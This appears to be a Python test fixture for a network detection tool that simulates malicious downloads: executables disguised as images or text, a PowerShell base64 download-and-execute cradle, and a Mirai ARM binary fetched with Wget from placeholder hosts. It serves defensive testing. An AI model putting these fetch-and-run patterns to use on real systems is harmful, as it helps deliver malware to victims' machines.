"""Compromised: programs that are fetched."""

from tests.situations.wire import ELF, OURS, PE, SERVER, STRANGER, b64, http, resp


def exe_as_jpg(wire):
    wire.asked(
        OURS, STRANGER, 80, http("GET", "/pic/logo.jpg", "cdn.example.org"), resp(200, PE, "image/jpeg")
    )


def exe_numeric(wire):
    wire.asked(
        OURS,
        STRANGER,
        80,
        http("GET", "/update.exe", STRANGER, ua=None, browser=False),
        resp(200, PE, "application/octet-stream"),
    )


def exe_as_text(wire):
    wire.asked(
        OURS,
        STRANGER,
        80,
        http(
            "GET",
            "/43huf",
            "files.example.org",
            ua="Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)",
            browser=False,
            headers="Accept: */*\r\nAccept-Encoding: gzip, deflate\r\nUA-CPU: AMD64\r\n",
        ),
        resp(200, PE, "text/plain"),
    )


def ps_cradle(wire):
    wire.asked(
        OURS,
        STRANGER,
        80,
        http("GET", "/a.ps1", STRANGER, ua=None, browser=False, headers="Connection: Keep-Alive\r\n"),
        resp(
            200,
            b"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA"
            + b64(900).encode()
            + b"'));IEX (New-Object IO.StreamReader($s)).ReadToEnd();",
            "text/plain",
        ),
    )


def mirai_drop(wire):
    wire.asked(
        SERVER,
        STRANGER,
        80,
        http(
            "GET",
            "/bins/mirai.arm7",
            STRANGER,
            ua="Wget/1.13",
            browser=False,
            headers="Accept: */*\r\n",
        ),
        resp(200, ELF, "application/octet-stream"),
    )
